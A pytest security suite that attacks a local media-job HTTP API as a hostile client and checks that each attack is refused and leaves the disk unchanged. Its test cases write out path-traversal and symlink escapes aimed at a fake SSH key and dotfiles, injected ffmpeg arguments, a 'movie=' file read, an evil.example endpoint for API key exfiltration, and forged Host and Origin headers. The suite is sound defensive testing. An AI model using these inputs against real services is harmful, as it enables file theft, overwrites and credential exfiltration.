"""The HTTP API as a hostile client uses it: real server, real HTTP, real jobs, no mocks.

Every attack must get its 4xx, leave the disk exactly as it was (a sentinel tree standing
for the user's home, the uploads and the outputs folder are hashed before and after),
and the server must keep serving. ``pytest -s`` prints the table the closing note quotes.
"""

from __future__ import annotations

import hashlib
import os
import time
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI
from fastapi.testclient import TestClient
from pydantic import BaseModel

from media_core.api import ApiServer, ApiSettings
from media_core.api.path_policy import upload_root
from media_core.api.token import new_token
from media_core.jobs.manager import JobManager
from media_core.jobs.store import JobStore
from media_core.paths import outputs_dir
from tests.test_api import make_clip

TOKEN = new_token()
AUTH = {"Authorization": f"Bearer {TOKEN}"}
MAX_BODY = 8 * 1024
MAX_UPLOAD = 256 * 1024
MAX_QUEUED = 3


def tree_digest(*roots: Path) -> str:
    """Names, symlink targets and contents of every entry below ``roots`` (symlinks not followed)."""
    sha = hashlib.sha256()
    for root in roots:
        for folder, dirs, files in os.walk(root, followlinks=False):
            dirs.sort()
            for name in sorted(dirs + files):
                path = Path(folder, name)
                sha.update(str(path).encode())
                if path.is_symlink():
                    sha.update(b"->" + os.readlink(path).encode())
                elif path.is_file():
                    sha.update(path.read_bytes())
    return sha.hexdigest()


@dataclass
class World:
    client: httpx.Client
    url: str
    manager: JobManager
    home: Path  # stands for the user's home folder: nothing in it may change
    clip: str  # a real clip uploaded through the API
    desktop_job: str  # a job the desktop ran, whose output lies outside the outputs folder

    def submit(self, job_type: str, params: dict, **kw) -> httpx.Response:
        return self.client.post("/jobs", json={"type": job_type, "params": params}, **kw)

    def raw(self, method: str, path: str, **kw) -> httpx.Response:
        """A request without the client's default token."""
        return httpx.request(method, self.url + path, timeout=10, **kw)


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    tmp = tmp_path_factory.mktemp("attacks")
    home = tmp / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".bashrc").write_text("export PATH=$HOME/bin:$PATH\n")
    (home / ".ssh" / "id_ed25519").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nsecret\n")
    (home / "notes.txt").write_text("private notes\n")
    # A link a user might keep in the outputs folder: it points out of it.
    link = outputs_dir() / "home-link"
    if link.is_symlink():
        link.unlink()
    link.symlink_to(home, target_is_directory=True)

    manager = JobManager(JobStore(tmp / "jobs.sqlite3"), heavy_slots=1)
    manager.start()
    # The desktop (trusted) rendered into the home folder: that file is the user's now.
    desktop_out = home / "Videos" / "holiday.mp4"
    desktop_job = manager.submit(
        "ffmpeg_transcode",
        {"input": "testsrc2=size=64x48:rate=5:duration=1", "lavfi": True, "duration": 1, "output": str(desktop_out)},
    )
    assert manager.wait(desktop_job, timeout=60).status == "succeeded"
    settings = ApiSettings(
        enabled=True, port=0, max_body_bytes=MAX_BODY, max_upload_bytes=MAX_UPLOAD, max_queued_jobs=MAX_QUEUED
    )
    server = ApiServer(manager, settings, token=TOKEN).start()
    client = httpx.Client(base_url=server.url, headers=AUTH, timeout=10)
    clip_bytes = make_clip(tmp / "clip.mp4", 1)
    clip = client.post("/files", files={"file": ("clip.mp4", clip_bytes)}).json()["path"]
    yield World(client, server.url, manager, home, clip, desktop_job)
    client.close()
    server.stop()
    manager.shutdown(timeout=5)
    link.unlink()


def _flood(w: World) -> httpx.Response:
    """Hold the only heavy slot with a long (trusted) job, then queue API jobs until refused."""
    blocker = w.manager.submit(
        "ffmpeg_transcode",
        {
            "input": "testsrc2=size=64x48:rate=5:duration=120",
            "lavfi": True,
            "realtime": True,
            "duration": 120,
            "output": str(Path(w.home).parent / "blocker.mp4"),
        },
    )
    queued: list[str] = []
    try:
        for _ in range(MAX_QUEUED + 5):
            response = w.submit("ffmpeg_transcode", {"input": w.clip, "output": str(outputs_dir() / "flood.mp4")})
            if response.status_code != 201:
                return response
            queued.append(response.json()["id"])
        raise AssertionError("the queue was never capped")
    finally:
        for job_id in [*queued, blocker]:
            w.manager.cancel(job_id)
        for job_id in [*queued, blocker]:
            w.manager.wait(job_id, timeout=30)


def _chunked_body(size: int):
    def chunks():
        sent = 0
        while sent < size:
            yield b"{" + b" " * 1022 + b"}" if sent == 0 else b" " * 1024
            sent += 1024

    return chunks()


def _dotdot(inside: Path, target: Path) -> str:
    """``inside/../../…/target``: starts in an allowed folder, ends outside it."""
    return f"{inside}/{os.path.relpath(target, inside)}"


def _delete_desktop_files(w: World) -> httpx.Response:
    return w.client.delete(f"/jobs/{w.desktop_job}", params={"delete_files": "true"})


#: (case, request, expected status). The closing note's attack table comes from these rows.
CASES: list[tuple[str, Callable[[World], httpx.Response], int]] = [
    (
        "output over a dotfile outside outputs",
        lambda w: w.submit("ffmpeg_transcode", {"input": w.clip, "output": str(w.home / ".bashrc")}),
        403,
    ),
    (
        "output folder outside outputs (captions)",
        lambda w: w.submit("captions", {"input": w.clip, "output_dir": str(w.home)}),
        403,
    ),
    (
        "input outside the allowed roots",
        lambda w: w.submit("ffmpeg_transcode", {"input": str(w.home / ".ssh" / "id_ed25519")}),
        403,
    ),
    (
        "subtitle file outside the roots (render_styled)",
        lambda w: w.submit(
            "render_styled",
            {"input": w.clip, "output": str(outputs_dir() / "r.mp4"), "subtitles": {"path": str(w.home / "notes.txt")}},
        ),
        403,
    ),
    (
        "'..' escape from outputs",
        lambda w: w.submit("ffmpeg_transcode", {"input": w.clip, "output": _dotdot(outputs_dir(), w.home / ".bashrc")}),
        403,
    ),
    (
        "'..' escape from uploads",
        lambda w: w.submit("ffmpeg_transcode", {"input": _dotdot(upload_root(), w.home / "notes.txt")}),
        403,
    ),
    (
        "symlink escape (write through outputs/home-link)",
        lambda w: w.submit(
            "ffmpeg_transcode", {"input": w.clip, "output": str(outputs_dir() / "home-link" / ".bashrc")}
        ),
        403,
    ),
    (
        "symlink escape (read through outputs/home-link)",
        lambda w: w.submit("ffmpeg_transcode", {"input": str(outputs_dir() / "home-link" / "notes.txt")}),
        403,
    ),
    (
        "extra ffmpeg output file in args",
        lambda w: w.submit(
            "ffmpeg_transcode", {"input": w.clip, "args": ["-c:v", "libx264", str(w.home / "evil.mp4")]}
        ),
        403,
    ),
    (
        "extra ffmpeg option (-f segment) in args",
        lambda w: w.submit(
            "ffmpeg_transcode", {"input": w.clip, "args": ["-f", "segment", "-segment_list", str(w.home / "l")]}
        ),
        403,
    ),
    (
        "lavfi movie= input",
        lambda w: w.submit("ffmpeg_transcode", {"input": f"movie={w.home / 'notes.txt'}", "lavfi": True}),
        403,
    ),
    (
        "cloud endpoint in params (API key exfiltration)",
        lambda w: w.submit(
            "translate_subtitles", {"input": w.clip, "tgt": "es", "cloud_base_url": "http://evil.example/v1"}
        ),
        403,
    ),
    (
        "undeclared path field (an unknown setting: the request model refuses it first)",
        lambda w: w.submit(
            "cut", {"video": w.clip, "start": 0, "end": 1, "out": str(outputs_dir() / "c.mp4"), "fonts": str(w.home)}
        ),
        400,
    ),
    ("delete_files of a job whose files lie outside outputs", _delete_desktop_files, 403),
    ("retry of a desktop job writing outside outputs", lambda w: w.client.post(f"/jobs/{w.desktop_job}/retry"), 403),
    ("no token", lambda w: w.raw("GET", "/jobs"), 401),
    ("wrong token", lambda w: w.raw("GET", "/jobs", headers={"Authorization": "Bearer " + new_token()}), 401),
    (
        "non-ASCII token",
        lambda w: w.raw(
            "GET", "/jobs", headers=[(b"Authorization", "Bearer jeton-secret-\u00e9\u00e8\u00ea-1234".encode())]
        ),
        401,
    ),
    ("/docs without token", lambda w: w.raw("GET", "/docs"), 401),
    ("/openapi.json without token", lambda w: w.raw("GET", "/openapi.json"), 401),
    (
        "no token, job submitted",
        lambda w: w.raw("POST", "/jobs", json={"type": "ffmpeg_transcode", "params": {"input": w.clip}}),
        401,
    ),
    ("foreign Host (DNS rebinding)", lambda w: w.client.get("/jobs", headers={"Host": "evil.example:8765"}), 403),
    (
        "cross-site Origin",
        lambda w: w.submit("ffmpeg_transcode", {"input": w.clip}, headers={"Origin": "https://evil.example"}),
        403,
    ),
    ("Sec-Fetch-Site: cross-site", lambda w: w.client.get("/jobs", headers={"Sec-Fetch-Site": "cross-site"}), 403),
    (
        "cross-site upload (form POST /files)",
        lambda w: w.raw("POST", "/files", files={"file": ("x.bin", b"x")}, headers={"Origin": "null"}),
        403,
    ),
    (
        "text/plain JSON body",
        lambda w: w.client.post(
            "/jobs", content=b'{"type": "ffmpeg_transcode", "params": {}}', headers={"Content-Type": "text/plain"}
        ),
        415,
    ),
    (
        "JSON body without Content-Type",
        lambda w: w.client.post(
            "/jobs", content=b'{"type": "ffmpeg_transcode", "params": {}}', headers={"Content-Type": ""}
        ),
        415,
    ),
    (
        "upload that is not multipart",
        lambda w: w.client.post("/files", content=b"x" * 100, headers={"Content-Type": "application/octet-stream"}),
        415,
    ),
    (
        "oversized JSON body",
        lambda w: w.submit("ffmpeg_transcode", {"input": w.clip, "padding": "x" * (MAX_BODY * 2)}),
        413,
    ),
    (
        "oversized chunked body (no Content-Length)",
        lambda w: w.client.post(
            "/jobs", content=_chunked_body(MAX_BODY * 4), headers={"Content-Type": "application/json"}
        ),
        413,
    ),
    (
        "oversized upload",
        lambda w: w.client.post("/files", files={"file": ("big.bin", os.urandom(MAX_UPLOAD + 200_000))}),
        413,
    ),
    ("flood of jobs", _flood, 429),
]


def test_attacks_get_4xx_change_nothing_and_the_server_keeps_serving(world):
    watched = (world.home, upload_root(), outputs_dir())
    rows = []
    for case, attack, expected in CASES:
        before = tree_digest(*watched)
        response = attack(world)
        _settle(world)
        unchanged = tree_digest(*watched) == before
        rows.append((case, response.status_code, unchanged))
        assert response.status_code == expected, f"{case}: {response.status_code} {response.text[:300]}"
        assert unchanged, f"{case}: something on disk changed"
        assert world.raw("GET", "/health").status_code == 200, case
        assert world.client.get("/jobs", params={"limit": 1}).status_code == 200, case
    assert world.manager.get(world.desktop_job).outputs  # the foreign job and its file are still there
    print("\n| case | HTTP status | disk unchanged |\n|---|---|---|")
    for case, status, unchanged in rows:
        print(f"| {case} | {status} | {'yes' if unchanged else 'NO'} |")


def _settle(world: World) -> None:
    """Wait until no job runs, so a write an attack might have caused is on disk before hashing."""
    deadline = time.monotonic() + 30
    while world.manager.running_ids() and time.monotonic() < deadline:
        time.sleep(0.05)


def test_the_legitimate_paths_still_work(world):
    """Inside the rules everything works: uploaded input → outputs folder → download → delete with files."""
    out = outputs_dir() / "attacks" / "ok.mp4"
    created = world.submit("ffmpeg_transcode", {"input": world.clip, "output": str(out), "args": ["-an", "-crf", "30"]})
    assert created.status_code == 201, created.text
    job = world.manager.wait(created.json()["id"], timeout=60)
    assert job.status == "succeeded", job.error
    assert world.client.get(f"/jobs/{job.id}/outputs/0").content == out.read_bytes()
    assert world.client.delete(f"/jobs/{job.id}", params={"delete_files": "true"}).status_code == 200
    assert not out.exists()
    assert world.client.get("/docs").status_code == 200 and world.client.get("/openapi.json").status_code == 200


class EchoBody(BaseModel):
    name: str


def test_the_installed_fastapi_refuses_json_without_a_json_content_type():
    """pyproject requires a FastAPI that does this by itself (0.132+); the guard enforces it anyway."""
    app = FastAPI()

    @app.post("/echo")
    def echo(body: EchoBody) -> dict:
        return {"name": body.name}

    client = TestClient(app)
    assert client.post("/echo", json={"name": "x"}).status_code == 200
    assert client.post("/echo", content=b'{"name": "x"}', headers={"Content-Type": "text/plain"}).status_code == 422


def test_every_job_type_has_an_api_path_policy():
    """A new job type is refused over the API until someone declares which of its fields
    are read and written: this test makes that decision explicit."""
    from media_core.api.path_policy import POLICIES
    from media_core.jobs.registry import default_registry

    assert set(default_registry.names()) == set(POLICIES)
